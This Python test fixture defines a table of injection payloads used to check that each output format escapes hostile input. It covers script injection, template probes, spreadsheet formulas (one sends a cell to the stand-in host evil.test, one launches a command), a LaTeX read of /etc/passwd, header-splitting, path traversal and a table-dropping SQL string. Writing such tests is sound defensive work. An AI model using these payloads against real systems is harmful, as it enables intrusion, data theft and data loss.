"""What a hostile source writes into any field: each tries to break out of one form in which we show it."""

from __future__ import annotations

from collections.abc import Mapping

# `hit` is noted by the browser of test_matrix.py; `evil` stands in nothing of ours, so it can be looked for.
PAYLOADS: Mapping[str, str] = {
    "script": "<script>hit('script')</script>",
    "image": "<img src=x onerror=hit('image')>",
    "drawing": "<svg/onload=hit('svg')><a xlink:href=\"javascript:hit(1)\">",
    "closing": "--></title></textarea></style></script></svg><script>hit('closing')</script>",
    "attribute": "\" autofocus onfocus=hit('attribute') onmouseover=\"hit('over')\" x=\"",
    "apostrophe": "' onclick='hit(1)' style='position:fixed;inset:0' '",
    "frame": "<iframe srcdoc=\"<script>parent.hit('frame')</script>\"></iframe><base href=//evil.test/>",
    "template": "{{ 7*7 }}{% raw %}{{ ''.__class__ }}${7*7}#{7*7}",
    "script-json": "\\\"}]}</script><!--<script>hit('json')//",
    "section": "]]><script>hit('section')</script><![CDATA[",
    "entities": "&lt;script&gt;hit('entities')&lt;/script&gt;&#60;b>",
    "formula": '=HYPERLINK("http://evil.test/?"&A1,"x")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1)*-2",
    "formula-wide": "＝1+1",
    "bibtex": "}, note = {evil}}\n@misc{evil, title = {evil}",
    "latex": "\\input{/etc/passwd}\\write18{evil} $x$ %",
    "ris": "x\r\nER  - \r\n\r\nTY  - JOUR\r\nTI  - evil",
    "calendar": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil",
    "mail": "x\r\nBcc: evil@evil.test\r\n\r\nevil",
    "direction": "a\u202egpj.exe\u202c\u2066\u200b\ufeff b",
    "path": "../../../../../../tmp/evil",
    "log": "x\nERROR evil all is lost",
    "format": "%s%n%(evil)s{0.__class__}{evil}",
    "markdown": "[x](javascript:hit(1)) ![x](//evil.test/x)",
    "quote": "'; DROP TABLE entries; --",
}
# Only where a source can send them: XML and YAML hold no such letters.
CONTROLS = "a\x1b]0;evil\x07\x1b[2J\x9b31m\x00\x08b"
